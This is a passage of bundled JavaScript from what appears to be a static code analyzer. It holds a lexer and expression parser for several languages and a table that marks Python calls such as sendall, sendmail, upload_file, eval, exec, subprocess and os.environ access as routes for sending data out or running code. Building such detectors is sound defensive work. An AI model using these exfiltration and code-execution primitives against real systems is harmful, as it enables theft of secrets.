        (call) => (call.receiver.text === '' ? undefined : listing({ ...call, receiver: { ...call.receiver, ref: 'pathlib.Path' } })),
    ],
    ['joinpath', (call) => ({ ...concat([call.receiver, ...call.args], '/'), ref: 'pathlib.Path' })],
    ['sendall sendto', effects_sendToPeer],
    ['sendmail send_message', mailer],
    ['storbinary storlines', mailer],
    [
        'upload_file upload_fileobj',
        (call) => {
            const read = call.reading.readPath(argument(call, 0, 'Filename'), call.name, call.place);
            return mailer({ ...call, args: [...call.args, read] });
        },
    ],
    ['run_in_executor submit', (call) => callBack(call, derived(inputOrigins(call)))],
]);
const PYTHON = {
    calls: python_calls,
    methods: python_methods,
    globals: new Set('eval exec compile open getattr __import__ globals locals vars chr bytes bytearray map reversed print str list dict tuple set sorted repr len isinstance hasattr __builtins__ builtins os sys subprocess socket requests urllib base64 shutil pathlib Path importlib'.split(' ')),
    environment: new Set(['os.environ', 'os.environb']),
    secrets: new Map(),
    moduleName: (name) => name,
};

;// CONCATENATED MODULE: ./lib/skills/code/script/lex.js
/** Kinds of tokens; numbers, so that they pack well. */
const NAME = 0;
const TEXT = 1;
const NUMBER = 2;
const MARK = 3;
const LINE = 4;
/** A text with expressions in it: an f-string, a template, a double-quoted text with sigils. */
const TEMPLATE = 5;
/** A command line in back ticks. */
const COMMAND = 6;
const NAME_RUN = /[\p{ID_Continue}$\u200c\u200d]+/uy;
const NUMBER_RUN = /[\d][\w.]{0,400}/uy;
const PYTHON_PREFIX = /[rbfuRBFU]{1,3}(?=["'])/uy;
const LONG_MARK = /=>|\?\.|->|::|:=|\*\*=?|\/\/=|<<=?|>>=?|\+=|-=|\.=|\/=|\|\||&&|\?\?=?|[=!<>]==?|\.\.\.|=~/uy;
const QUOTED_WORD = /(?:qq|qx|qw|q|%x|%q|%Q|%w)([({[|<!/])/uy;
const CLOSING = { '(': ')', '[': ']', '{': '}', '<': '>' };
/** Cuts a range of a text into tokens. Linear; any text is accepted. */
function lex(text, dialect, from = 0, to = text.length) {
    const lexer = new Lexer(text, dialect, from, to);
    lexer.run();
    return lexer.tokens;
}
class Lexer {
    tokens;
    #text;
    #dialect;
    #to;
    #open = [];
    #at;
    #unclosedBlock = false;
    #unclosed = new Set();
    constructor(text, dialect, from, to) {
        this.#text = text;
        this.#dialect = dialect;
        this.#at = from;
        this.#to = to;
        this.tokens = { text, dialect, kind: [], start: [], end: [], partner: [] };
    }
    run() {
        if (this.#dialect.indented)
            this.#push(LINE, this.#at, this.#at, this.#indentAt(this.#at));
        while (this.#at < this.#to)
            this.#step();
    }
    #push(kind, start, end, partner = -1) {
        const { tokens } = this;
        tokens.kind.push(kind);
        tokens.start.push(start);
        tokens.end.push(Math.min(end, this.#to));
        tokens.partner.push(partner);
        this.#at = end;
    }
    #step() {
        const text = this.#text;
        const at = this.#at;
        const code = text.charCodeAt(at);
        if (code === 0x20 || code === 0x09 || code === 0x0d) {
            this.#at += 1;
            return;
        }
        if (code === 0x0a)
            return this.#line();
        if (code === 0x5c && this.#dialect.indented) {
            this.#at += text.charCodeAt(at + 1) === 0x0a ? 2 : 1;
            return;
        }
        if (this.#comment(code))
            return;
        if (isNameStart(code) || (this.#dialect.sigils && (code === 0x24 || code === 0x40) && isNameStart(text.charCodeAt(at + 1))))
            return this.#name();
        if (code >= 0x30 && code <= 0x39)
            return this.#push(NUMBER, at, at + (match(NUMBER_RUN, text, at)?.length ?? 1));
        if (code === 0x22 || code === 0x27)
            return this.#quoted(at, '');
        if (code === 0x60)
            return this.#backtick(at);
        if (code === 0x2f && this.#dialect.language === 'javascript' && this.#regexAllowed())
            return this.#regex();
        this.#mark(at);
    }
    #line() {
        const next = this.#at + 1;
        if (this.#open.length === 0 || !this.#dialect.indented) {
            const { kind, partner, start, end } = this.tokens;
            const last = kind.length - 1;
            const indent = this.#dialect.indented ? this.#indentAt(next) : 0;
            if (kind[last] === LINE) {
                partner[last] = indent;
                start[last] = this.#at;
                end[last] = next;
                this.#at = next;
            }
            else
                this.#push(LINE, this.#at, next, indent);
            return;
        }
        this.#at = next;
    }
    #indentAt(from) {
        let width = 0;
        for (let at = from; at < this.#to; at += 1) {
            const code = this.#text.charCodeAt(at);
            if (code === 0x20)
                width += 1;
            else if (code === 0x09)
                width += 8 - (width % 8);
            else
                break;
        }
        return width;
    }
    #comment(code) {
        const text = this.#text;
        const at = this.#at;
        if (code === 0x23 && this.#dialect.hashComments) {
            this.#at = this.#endOfLine(at);
            return true;
        }
        if (code !== 0x2f || !this.#dialect.slashComments)
            return false;
        const next = text.charCodeAt(at + 1);
        if (next === 0x2f) {
            this.#at = this.#endOfLine(at);
            return true;
        }
        if (next !== 0x2a || this.#unclosedBlock)
            return false;
        const end = text.indexOf('*/', at + 2);
        if (end === -1)
            this.#unclosedBlock = true;
        this.#at = end === -1 ? at + 2 : end + 2;
        return true;
    }
    #endOfLine(from) {
        const end = this.#text.indexOf('\n', from);
        return end === -1 ? this.#to : Math.min(end, this.#to);
    }
    #name() {
        const text = this.#text;
        const at = this.#at;
        if (this.#dialect.language === 'python') {
            const prefix = match(PYTHON_PREFIX, text, at);
            if (prefix)
                return this.#quoted(at, prefix);
        }
        if (this.#dialect.backticks === 'command') {
            QUOTED_WORD.lastIndex = at;
            const found = QUOTED_WORD.exec(text);
            if (found)
                return this.#quotedWord(at, found[0], found[1] ?? '(');
        }
        const run = match(NAME_RUN, text, this.#dialect.sigils && (text[at] === '$' || text[at] === '@') ? at + 1 : at);
        const sigil = this.#dialect.sigils && (text[at] === '$' || text[at] === '@') ? 1 : 0;
        this.#push(NAME, at, at + sigil + Math.max(1, run?.length ?? 1));
    }
    #quotedWord(at, opening, bracket) {
        const end = this.#text.indexOf(CLOSING[bracket] ?? bracket, at + opening.length);
        if (end === -1 || end - at > 20_000)
            return this.#push(NAME, at, at + opening.length - 1);
        const kind = opening.startsWith('qx') || opening.startsWith('%x') ? COMMAND : TEXT;
        this.#push(kind, at, end + 1);
    }
    /** A text in quotes. One that is not closed ends with its line, as it would be an error anyway. */
    #quoted(at, prefix) {
        const text = this.#text;
        const open = at + prefix.length;
        const quote = text.charAt(open);
        const triple = this.#dialect.indented && text.startsWith(quote + quote + quote, open);
        const closing = triple ? quote.repeat(3) : quote;
        const end = this.#endOfText(open + closing.length, closing, triple);
        const interpolated = /f/iu.test(prefix) || (quote === '"' && (this.#dialect.interpolation === 'ruby' || this.#dialect.interpolation === 'sigil'));
        this.#push(interpolated ? TEMPLATE : TEXT, at, end);
    }
    #endOfText(from, closing, multiline) {
        const text = this.#text;
        const wide = multiline || this.#dialect.sigils;
        const first = closing.charCodeAt(0);
        if (wide && this.#unclosed.has(closing))
            return Math.min(this.#to, from);
        for (let at = from; at < this.#to; at += 1) {
            const code = text.charCodeAt(at);
            if (code === 0x5c)
                at += 1;
            else if (code === 0x0a && !wide)
                return at;
            else if (code === first && (closing.length === 1 || text.startsWith(closing, at)))
                return at + closing.length;
        }
        if (!wide)
            return this.#to;
        this.#unclosed.add(closing);
        return this.#endOfLine(from);
    }
    #backtick(at) {
        const { backticks } = this.#dialect;
        if (backticks === 'none' || this.#unclosed.has('`'))
            return this.#push(MARK, at, at + 1);
        const end = backticks === 'template' ? this.#endOfTemplate(at + 1) : this.#text.indexOf('`', at + 1);
        if (end === -1 || end >= this.#to) {
            this.#unclosed.add('`');
            return this.#push(MARK, at, at + 1);
        }
        this.#push(backticks === 'template' ? TEMPLATE : backticks === 'raw' ? TEXT : COMMAND, at, end + 1);
    }
    /** The closing back tick of a template, past the expressions in it and the templates in those. */
    #endOfTemplate(from) {
        const text = this.#text;
        const nesting = ['template'];
        for (let at = from; at < this.#to; at += 1) {
            const code = text.charCodeAt(at);
            const inTemplate = nesting.at(-1) === 'template';
            if (code === 0x5c)
                at += 1;
            else if (code === 0x60) {
                if (inTemplate)
                    nesting.pop();
                else
                    nesting.push('template');
                if (nesting.length === 0)
                    return at;
            }
            else if (inTemplate && code === 0x24 && text.charCodeAt(at + 1) === 0x7b) {
                nesting.push('brace');
                at += 1;
            }
            else if (!inTemplate && code === 0x7b)
                nesting.push('brace');
            else if (!inTemplate && code === 0x7d)
                nesting.pop();
            if (nesting.length > 60)
                return -1;
        }
        return -1;
    }
    /** After a value a slash divides; elsewhere it opens a pattern. */
    #regexAllowed() {
        const { kind, start, end, text } = this.tokens;
        let last = kind.length - 1;
        while (last >= 0 && kind[last] === LINE)
            last -= 1;
        if (last < 0)
            return true;
        if (kind[last] === NAME)
            return /^(?:return|typeof|case|in|of|delete|void|throw|new|else|do|yield|await)$/u.test(text.slice(start[last], end[last]));
        if (kind[last] !== MARK)
            return false;
        const mark = text[(end[last] ?? 1) - 1];
        return mark !== ')' && mark !== ']' && mark !== '}';
    }
    #regex() {
        const text = this.#text;
        let inClass = false;
        for (let at = this.#at + 1; at < this.#to; at += 1) {
            const code = text.charCodeAt(at);
            if (code === 0x0a)
                break;
            if (code === 0x5c)
                at += 1;
            else if (code === 0x5b)
                inClass = true;
            else if (code === 0x5d)
                inClass = false;
            else if (code === 0x2f && !inClass) {
                const flags = /[a-z]*/uy;
                return this.#push(NUMBER, this.#at, at + 1 + (match(flags, text, at + 1)?.length ?? 0));
            }
        }
        this.#push(MARK, this.#at, this.#at + 1);
    }
    #mark(at) {
        const text = this.#text;
        const unit = text.charAt(at);
        const { tokens } = this;
        const index = tokens.kind.length;
        if (unit === '(' || unit === '[' || unit === '{') {
            this.#open.push(index);
            return this.#push(MARK, at, at + 1);
        }
        if (unit === ')' || unit === ']' || unit === '}') {
            const opening = this.#open.at(-1);
            if (opening !== undefined && CLOSING[text.charAt(tokens.start[opening] ?? 0)] === unit) {
                this.#open.pop();
                tokens.partner[opening] = index;
                return this.#push(MARK, at, at + 1, opening);
            }
            return this.#push(MARK, at, at + 1);
        }
        this.#push(MARK, at, at + (match(LONG_MARK, text, at)?.length ?? 1));
    }
}
function match(pattern, text, at) {
    pattern.lastIndex = at;
    return pattern.exec(text)?.[0];
}
function isNameStart(code) {
    return (code >= 0x61 && code <= 0x7a) || (code >= 0x41 && code <= 0x5a) || code === 0x5f || code === 0x24 || code > 0x7f;
}

;// CONCATENATED MODULE: ./lib/skills/code/script/text-literal.js
const SIMPLE = { n: '\n', t: '\t', r: '\r', b: '\b', f: '\f', v: '\v', a: '\x07', e: '\x1b', '0': '\0' };
/** The content of a quoted text, with its escapes resolved as the language does. */
function readLiteral(source, start, end, dialect) {
    const raw = source.slice(start, end);
    const opening = /^(?:[rbfuRBFU]{0,3}(?:"""|'''|["'`])|(?:qq|qx|qw|q|%x|%q|%Q|%w)[({[|<!/])/u.exec(raw)?.[0] ?? raw.charAt(0);
    const prefix = opening.replace(/["'`].*$/su, '');
    const quotes = /^[rbfuRBFU]*$/u.test(prefix) ? opening.slice(prefix.length) : opening;
    const closed = raw.length >= opening.length + 1 && (quotes.length === 3 ? raw.endsWith(quotes) : /["'`)\]}|>!/]$/u.test(raw));
    const contentStart = start + opening.length;
    const contentEnd = Math.max(contentStart, closed ? end - (quotes.length === 3 ? 3 : 1) : end);
    const content = source.slice(contentStart, contentEnd);
    const plain = /^(?:q|%q|%w|qw)/u.test(opening) ||
        (quotes === "'" && dialect.sigils) ||
        (quotes === '`' && dialect.backticks === 'raw') ||
        /r/iu.test(/^[rbfu]{1,3}$/iu.test(prefix) ? prefix : '');
    const verbatim = plain || !content.includes('\\');
    return {
        text: verbatim ? content : text_literal_unescape(content),
        contentStart,
        contentEnd,
        verbatim,
        formatted: /f/iu.test(/^[rbfu]{1,3}$/iu.test(prefix) ? prefix : ''),
    };
}
/** Resolves back-slash escapes of C's family. */
function text_literal_unescape(content) {
    return content.replace(/\\(?:x([0-9A-Fa-f]{2})|u\{([0-9A-Fa-f]{1,6})\}|u([0-9A-Fa-f]{4})|U([0-9A-Fa-f]{8})|([0-7]{2,3})|(\r?\n)|([\s\S]))/gu, (_whole, byte, braced, short, long, octal, line, other) => {
        const digits = byte ?? braced ?? short ?? long;
        if (digits !== undefined) {
            const code = Number.parseInt(digits, 16);
            return code <= 0x10ffff ? String.fromCodePoint(code) : '\ufffd';
        }
        if (octal !== undefined)
            return String.fromCharCode(Number.parseInt(octal, 8) & 255);
        if (line !== undefined)
            return '';
        return SIMPLE[other ?? ''] ?? other ?? '';
    });
}

;// CONCATENATED MODULE: ./lib/skills/code/script/token-stream.js

/** Deepest nesting of expressions and blocks that is read; deeper ones are skipped whole. */
const token_stream_MAX_DEPTH = 120;
/** A position in a list of tokens. */
class TokenStream {
    tokens;
    dialect;
    count;
    at = 0;
    depth = 0;
    truncated = false;
    constructor(tokens) {
        this.tokens = tokens;
        this.dialect = tokens.dialect;
        this.count = tokens.kind.length;
    }
    get done() {
        return this.at >= this.count;
    }
    kindAt(index) {
        return this.tokens.kind[index] ?? -1;
    }
    startAt(index) {
        return this.tokens.start[index] ?? this.tokens.text.length;
    }
    endAt(index) {
        return this.tokens.end[index] ?? this.tokens.text.length;
    }
    partnerAt(index) {
        return this.tokens.partner[index] ?? -1;
    }
    sourceAt(index) {
        return index < this.count ? this.tokens.text.slice(this.startAt(index), this.endAt(index)) : '';
    }
    /** The offset at which the token before the position ends. */
    get lastEnd() {
        return this.at === 0 ? 0 : this.endAt(this.at - 1);
    }
    isMark(mark, index = this.at) {
        return (this.kindAt(index) === MARK &&
            this.endAt(index) - this.startAt(index) === mark.length &&
            this.tokens.text.startsWith(mark, this.startAt(index)));
    }
    isName(name, index = this.at) {
        return (this.kindAt(index) === NAME &&
            this.endAt(index) - this.startAt(index) === name.length &&
            this.tokens.text.startsWith(name, this.startAt(index)));
    }
    isLine(index = this.at) {
        return this.kindAt(index) === LINE;
    }
    takeMark(mark) {
        if (!this.isMark(mark))
            return false;
        this.at += 1;
        return true;
    }
    takeName(name) {
        if (!this.isName(name))
            return false;
        this.at += 1;
        return true;
    }
    skipLines() {
        while (this.kindAt(this.at) === LINE)
            this.at += 1;
    }
    /** The index of the next token that is no line end. */
    nextSolid(from = this.at) {
        let index = from;
        while (this.kindAt(index) === LINE)
            index += 1;
        return index;
    }
}

;// CONCATENATED MODULE: ./lib/skills/code/script/expressions.js



const LOOSE = new Set([
    '==',
    '!=',
    '===',
    '!==',
    '<',
    '>',
    '<=',
    '>=',
    '||',
    '&&',
    '??',
    'and',
    'or',
    'in',
    'is',
    'not',
    'instanceof',
    '=~',
    '|',
    '&',
    '^',
    '..',
    'eq',
    'ne',
    'as',
    'satisfies',
    '<<',
    '>>',
]);
const SUMS = new Set(['+', '-']);
const PRODUCTS = new Set(['*', '/', '%', '**', '//', '@', 'x']);
const ASSIGNS = new Set(['=', '+=', ':=', '.=', '||=', '??=', '|=', '/=', '-=', '<<']);
const PREFIX_NAMES = new Set([
    'await',
    'new',
    'not',
    'typeof',
    'void',
    'delete',
    'yield',
    'throw',
    'async',
    'go',
    'defer',
    'my',
    'our',
    'local',
    'print',
    'echo',
    'raise',
    'else',
    'elsif',
    'unless',
    'then',
    'do',
    'begin',
    'static',
    'readonly',
    'public',
    'private',
    'protected',
    'declare',
]);
/** Longest chain of members, calls and indices that is kept as one. */
const MAX_CHAIN = 150;
const expressions_CLOSERS = new Set([')', ']', '}']);
/** Reads expressions of all dialects. Precedence is kept for sums and products, which build texts; the rest is joined from left to right. */
class ExpressionReader extends TokenStream {
    empty() {
        return { type: 'empty', start: this.startAt(this.at), end: this.startAt(this.at), source: '' };
    }
    /** An expression with commas as a list: the right side of an assignment, a returned tuple. */
    readTuple() {
        const first = this.readExpression();
        if (!this.isMark(','))
            return first;
        const items = [first];
        while (this.takeMark(',')) {
            if (this.isLine() || this.isMark('=') || this.isMark(':=') || this.done)
                break;
            items.push(this.readExpression());
        }
        const last = items.at(-1);
        if (last?.type === 'assign' && this.dialect.language !== 'javascript') {
            const targets = [...items.slice(0, -1), last.target];
            const target = { type: 'list', start: first.start, end: last.target.end, items: targets, keys: [] };
            return { ...last, start: first.start, target };
        }
        return { type: 'list', start: first.start, end: this.lastEnd, items, keys: [] };
    }
    readExpression() {
        if (this.depth >= token_stream_MAX_DEPTH)
            return this.#skipDeep();
        this.depth += 1;
        const node = this.#readTernary();
        this.depth -= 1;
        return node;
    }
    #skipDeep() {
        this.truncated = true;
        const partner = this.partnerAt(this.at);
        this.at = partner > this.at ? partner + 1 : this.at + 1;
        return this.empty();
    }
    #readTernary() {
        const start = this.startAt(this.at);
        const first = this.#readLoose();
        if (this.#operatorIs(ASSIGNS))
            return this.#assignTo(first);
        const question = this.#operatorIndex();
        if (this.isMark('?', question) && !this.dialect.indented) {
            this.at = question + 1;
            this.skipLines();
            const yes = this.readExpression();
            this.skipLines();
            if (!this.takeMark(':'))
                return this.#joined('or', [first, yes], start);
            this.skipLines();
            return this.#joined('or', [yes, this.readExpression()], start);
        }
        if (this.dialect.indented && this.isName('if')) {
            this.at += 1;
            const condition = this.#readLoose();
            if (!this.takeName('else'))
                return this.#joined('or', [first, condition], start);
            return this.#joined('or', [first, this.readExpression()], start);
        }
        return first;
    }
    #assignTo(target) {
        const operator = this.sourceAt(this.#operatorIndex());
        this.at = this.#operatorIndex() + 1;
        this.skipLines();
        const value = this.dialect.indented ? this.readTuple() : this.readExpression();
        return { type: 'assign', start: target.start, end: this.lastEnd, target, operator, value };
    }
    #joined(operator, parts, start) {
        return { type: 'join', operator, parts, start, end: this.lastEnd };
    }
    /** The index of the operator after an operand; in dialects without significant lines it may stand on the next one. */
    #operatorIndex() {
        if (!this.isLine() || this.dialect.indented)
            return this.at;
        const next = this.nextSolid();
        const mark = this.kindAt(next) === MARK ? this.sourceAt(next) : '';
        const continues = mark !== '' &&
            (SUMS.has(mark) ||
                mark === '?' ||
                mark === ':' ||
                mark === '||' ||
                mark === '&&' ||
                mark === '??' ||
                (mark === '.' && this.dialect.joins === '.'));
        return continues && mark !== '-' && mark !== ':' ? next : this.at;
    }
    #operatorIs(set) {
        const index = this.#operatorIndex();
        const kind = this.kindAt(index);
        return (kind === MARK || kind === NAME) && set.has(this.sourceAt(index));
    }
    #readLevel(operators, next, extra = '') {
        const start = this.startAt(this.at);
        let left = next();
        for (;;) {
            const index = this.#operatorIndex();
            const kind = this.kindAt(index);
            if (kind !== MARK && kind !== NAME)
                return left;
            const operator = this.sourceAt(index);
            if (!operators.has(operator) && (extra === '' || operator !== extra))
                return left;
            if (kind === NAME && operator === 'x' && this.dialect.language !== 'perl')
                return left;
            if (operator === 'in' && this.noIn)
                return left;
            const parts = [left];
            while (this.kindAt(this.#operatorIndex()) === kind && this.sourceAt(this.#operatorIndex()) === operator) {
                this.at = this.#operatorIndex() + 1;
                this.skipLinesUnlessIndented();
                if (this.isName('not') || this.isName('in'))
                    this.at += 1;
                parts.push(operator === 'as' || operator === 'satisfies' ? this.#skipType() : next());
            }
            left = this.#joined(operator, operator === 'as' || operator === 'satisfies' ? parts.slice(0, 1) : parts, start);
        }
    }
    /** The source of a loop follows `in`, which is then no operator. */
    noIn = false;
    skipLinesUnlessIndented() {
        if (!this.dialect.indented)
            this.skipLines();
    }
    #skipType() {
        while (this.kindAt(this.at) === NAME ||
            this.isMark('.') ||
            this.isMark('<') ||
            this.isMark('>') ||
            this.isMark('[') ||
            this.isMark(']'))
            this.at += 1;
        return this.empty();
    }
    #readLoose() {
        return this.#readLevel(LOOSE, () => this.#readSum());
    }
    #readSum() {
        return this.#readLevel(SUMS, () => this.#readProduct(), this.dialect.joins);
    }
    #readProduct() {
        return this.#readLevel(PRODUCTS, () => this.#readUnary());
    }
    #readUnary() {
        let guard = 0;
        while (guard < 200) {
            guard += 1;
            const kind = this.kindAt(this.at);
            const source = kind === MARK || kind === NAME ? this.sourceAt(this.at) : '';
            const prefixMark = kind === MARK && /^(?:[!~+&\\*-]|\.\.\.|\*\*|@|--|\+\+)$/u.test(source);
            const next = this.at + 1;
            const prefixName = kind === NAME &&
                PREFIX_NAMES.has(source) &&
                !this.isMark('.', next) &&
                !this.isMark('=', next) &&
                !this.isMark(',', next) &&
                !this.isMark(')', next) &&
                !(this.isMark('(', next) &&
                    source !== 'await' &&
                    source !== 'not' &&
                    source !== 'typeof' &&
                    !(source === 'async' && this.#isArrow(this.partnerAt(next)))) &&
                !(source === 'async' && !this.#startsFunction(next));
            if (!prefixMark && !prefixName)
                break;
            this.at += 1;
            this.skipLinesUnlessIndented();
        }
        return this.#readPostfix(this.#readOperand());
    }
    #startsFunction(index) {
        return this.isName('function', index) || this.isMark('(', index) || this.isName('def', index) || this.kindAt(index) === NAME;
    }
    #readOperand() {
        const kind = this.kindAt(this.at);
        const start = this.startAt(this.at);
        const end = this.endAt(this.at);
        if (kind === TEXT || kind === TEMPLATE)
            return this.#readTexts();
        if (kind === COMMAND) {
            this.at += 1;
            return { type: 'command', start, end, line: this.#literal(this.at - 1, true) };
        }
        if (kind === NUMBER) {
            this.at += 1;
            return { type: 'empty', start, end, source: this.tokens.text.slice(start, Math.min(end, start + 400)) };
        }
        if (kind === NAME)
            return this.#readNamed(start);
        if (kind === MARK)
            return this.#readBracketed(start);
        return this.empty();
    }
    /** Adjacent texts are one in Python and Ruby. */
    #readTexts() {
        const start = this.startAt(this.at);
        const parts = [this.#literal(this.at, false)];
        this.at += 1;
        while (this.dialect.indented && (this.kindAt(this.at) === TEXT || this.kindAt(this.at) === TEMPLATE)) {
            parts.push(this.#literal(this.at, false));
            this.at += 1;
        }
        return parts.length === 1 && parts[0] ? parts[0] : this.#joined('+', parts, start);
    }
    #literal(index, command) {
        const start = this.startAt(index);
        const end = this.endAt(index);
        const literal = readLiteral(this.tokens.text, start, end, this.dialect);
        if (this.kindAt(index) === TEMPLATE || (command && this.dialect.interpolation !== 'none'))
            return this.#template(start, end, literal.contentStart, literal.contentEnd);
        return { type: 'text', start, end, text: literal.text, exact: literal.verbatim ? literal.contentStart : -1 };
    }
    /** A text with expressions: each is read in its place. */
    #template(start, end, from, to) {
        const content = this.tokens.text.slice(from, to);
        const opening = this.dialect.interpolation === 'prefix'
            ? /\{/gu
            : this.dialect.interpolation === 'ruby'
                ? /#\{/gu
                : this.dialect.language === 'javascript'
                    ? /\$\{/gu
                    : /\$\{?(?=[A-Za-z_])/gu;
        if (this.depth >= token_stream_MAX_DEPTH || !opening.test(content))
            return {
                type: 'text',
                start,
                end,
                text: content.includes('\\') ? readLiteral(`"${content}"`, 0, content.length + 2, this.dialect).text : content,
                exact: content.includes('\\') ? -1 : from,
            };
        const parts = [];
        let done = 0;
        opening.lastIndex = 0;
        for (let found = opening.exec(content); found && parts.length < 400; found = opening.exec(content)) {
            if (content[found.index - 1] === '\\' || (content[found.index + 1] === '{' && this.dialect.interpolation === 'prefix')) {
                opening.lastIndex = found.index + 2;
                continue;
            }
            const expressionStart = found.index + found[0].length;
            const expressionEnd = endOfExpression(content, expressionStart, found[0].endsWith('{'));
            if (found.index > done)
                parts.push(this.#plain(from + done, from + found.index));
            parts.push(this.#embedded(from + expressionStart, from + expressionEnd));
            done = Math.min(content.length, expressionEnd + (found[0].endsWith('{') ? 1 : 0));
            opening.lastIndex = done;
        }
        if (done < content.length)
            parts.push(this.#plain(from + done, to));
        return { type: 'join', operator: '+', parts, start, end };
    }
    #plain(start, end) {
        const text = this.tokens.text.slice(start, end);
        return {
            type: 'text',
            start,
            end,
            text: text.includes('\\') ? readLiteral(`"${text}"`, 0, text.length + 2, this.dialect).text : text,
            exact: text.includes('\\') ? -1 : start,
        };
    }
    #embedded(start, end) {
        const inner = this.inner(lex(this.tokens.text, this.dialect, start, end));
        inner.depth = this.depth + 4;
        if (inner.dialect.indented)
            inner.skipLines();
        const node = inner.readExpression();
        this.truncated ||= inner.truncated;
        return node;
    }
    #readNamed(start) {
        const name = this.sourceAt(this.at);
        if (this.dialect.indented && name === 'lambda')
            return this.#readLambda(start);
        if (name === 'function' ||
            name === 'func' ||
            (name === 'fn' && this.dialect.language === 'php') ||
            (name === 'sub' && this.dialect.language === 'perl'))
            return this.readFunction(start);
        if (this.isMark('=>', this.at + 1) && this.dialect.language === 'javascript') {
            const parameter = { type: 'name', start, end: this.endAt(this.at), name };
            this.at += 2;
            return this.#readArrowBody(start, [parameter]);
        }
        this.at += 1;
        return { type: 'name', start, end: this.endAt(this.at - 1), name };
    }
    #readLambda(start) {
        this.at += 1;
        const parameters = [];
        while (!this.done && !this.isMark(':') && !this.isLine()) {
            if (this.kindAt(this.at) === NAME)
                parameters.push({ type: 'name', start: this.startAt(this.at), end: this.endAt(this.at), name: this.sourceAt(this.at) });
            this.at += 1;
        }
        this.takeMark(':');
        return { type: 'function', start, end: this.lastEnd, name: '', parameters, body: [this.readExpression()], expression: true };
    }
    #readArrowBody(start, parameters) {
        this.skipLines();
        if (this.isMark('{')) {
            const body = this.readBraced();
            return { type: 'function', start, end: this.lastEnd, name: '', parameters, body, expression: false };
        }
        const body = [this.readExpression()];
        return { type: 'function', start, end: this.lastEnd, name: '', parameters, body, expression: true };
    }
    /** `function name(a, b) { … }` and its kin, from the keyword on. */
    readFunction(start) {
        this.at += 1;
        this.takeMark('*');
        if (this.dialect.language === 'go' && this.isMark('(')) {
            const partner = this.partnerAt(this.at);
            if (partner > this.at && this.kindAt(partner + 1) === NAME)
                this.at = partner + 1;
        }
        let name = '';
        if (this.kindAt(this.at) === NAME) {
            name = this.sourceAt(this.at);
            this.at += 1;
        }
        return this.readFunctionRest(start, name);
    }
    readFunctionRest(start, name) {
        const parameters = this.isMark('(') ? this.#readParameters() : [];
        this.#skipToBody();
        const body = this.isMark('{') ? this.readBraced() : [];
        return { type: 'function', start, end: this.lastEnd, name, parameters, body, expression: false };
    }
    /** Skips a return type between the parameters and the body. */
    #skipToBody() {
        const limit = this.at + 40;
        let index = this.at;
        while (index < limit && index < this.count && !this.isMark('{', index) && !this.isMark(';', index) && !this.isMark('=>', index)) {
            const partner = this.partnerAt(index);
            index = partner > index ? partner + 1 : index + 1;
        }
        if (this.isMark('{', index))
            this.at = index;
    }
    #readParameters() {
        const close = this.partnerAt(this.at);
        const parameters = [];
        if (close < 0) {
            this.at += 1;
            return parameters;
        }
        this.at += 1;
        let guard = this.at - 1;
        while (this.at < close && this.at > guard) {
            guard = this.at;
            this.skipLines();
            while (this.isMark('*') || this.isMark('**') || this.isMark('...') || this.isMark('@') || this.isMark('&'))
                this.at += 1;
            if (this.at >= close)
                break;
            parameters.push(this.isMark('{') || this.isMark('[') ? this.#readOperand() : this.#parameterName());
            this.#skipToComma(close);
        }
        this.at = close + 1;
        return parameters;
    }
    #parameterName() {
        const start = this.startAt(this.at);
        let index = this.at;
        while (/^(?:public|private|protected|readonly|string|int|array|bool)$/u.test(this.sourceAt(index)) && this.kindAt(index + 1) === NAME)
            index += 1;
        const name = this.sourceAt(index);
        this.at = index + 1;
        return { type: 'name', start, end: this.endAt(index), name };
    }
    #skipToComma(close) {
        while (this.at < close && !this.isMark(',')) {
            const partner = this.partnerAt(this.at);
            this.at = partner > this.at ? partner + 1 : this.at + 1;
        }
        if (this.at < close)
            this.at += 1;
    }
    #readBracketed(start) {
        const mark = this.sourceAt(this.at);
        const partner = this.partnerAt(this.at);
        if (mark === '(' && this.#isArrow(partner)) {
            const parameters = this.#readParameters();
            while (!this.done && !this.isMark('=>'))
                this.at += 1;
            this.at += 1;
            return this.#readArrowBody(start, parameters);
        }
        if ((mark === '(' || mark === '[' || mark === '{') && partner > this.at)
            return this.#readItems(start, partner, mark);
        if (expressions_CLOSERS.has(mark) || mark === ',' || mark === ';' || mark === ':' || mark === '=')
            return this.empty();
        this.at += 1;
        return { type: 'empty', start, end: this.lastEnd, source: mark };
    }
    #isArrow(partner) {
        if (partner < 0 || this.dialect.language !== 'javascript')
            return false;
        if (this.isMark('=>', partner + 1))
            return true;
        if (!this.isMark(':', partner + 1))
            return false;
        for (let index = partner + 2; index < partner + 24; index += 1) {
            if (this.isMark('=>', index))
                return true;
            if (this.isMark(';', index) || this.isMark('{', index) || this.isMark(',', index) || this.isLine(index))
                return false;
        }
        return false;
    }
    /** What stands between brackets: a group, a list, a mapping, a comprehension, an object. */
    #readItems(start, close, mark) {
        this.at += 1;
        const outerIn = this.noIn;
        this.noIn = false;
        const items = [];
        const keys = [];
        let comprehension;
        while (this.at < close) {
            const before = this.at;
            this.skipLines();
            if (this.at >= close)
                break;
            const method = mark === '{' ? this.#readMethod(close) : undefined;
            const first = method ?? this.readExpression();
            this.skipLines();
            if (this.at < close && (this.isMark(':') || this.isMark('=>'))) {
                this.at += 1;
                this.skipLines();
                keys.push(first);
                items.push(this.readExpression());
            }
            else {
                keys.push(mark === '{' && first.type === 'name'
                    ? first
                    : mark === '{' && first.type === 'function'
                        ? { type: 'name', start: first.start, end: first.end, name: first.name }
                        : undefined);
                items.push(first);
            }
            this.skipLines();
            if (this.dialect.indented && (this.isName('for') || this.isName('async'))) {
                comprehension = this.#readComprehension(items.at(-1) ?? first, start, close);
                break;
            }
            if (!this.takeMark(',') && this.at === before)
                this.at += 1;
        }
        this.noIn = outerIn;
        this.at = close + 1;
        if (comprehension)
            return comprehension;
        const [only] = items;
        if (mark === '(' && items.length === 1 && only && !this.isMark(',', close - 1))
            return only;
        return { type: 'list', start, end: this.endAt(close), items, keys };
    }
    /** `name(a) { … }` within an object. */
    #readMethod(close) {
        let index = this.at;
        while (/^(?:async|get|set|static|\*)$/u.test(this.sourceAt(index)) && this.kindAt(index + 1) === NAME)
            index += 1;
        if (this.kindAt(index) !== NAME || !this.isMark('(', index + 1) || this.dialect.language !== 'javascript')
            return undefined;
        const partner = this.partnerAt(index + 1);
        if (partner < 0 || partner >= close || !this.isMark('{', partner + 1))
            return undefined;
        const start = this.startAt(this.at);
        const name = this.sourceAt(index);
        this.at = index + 1;
        return this.readFunctionRest(start, name);
    }
    #readComprehension(element, start, close) {
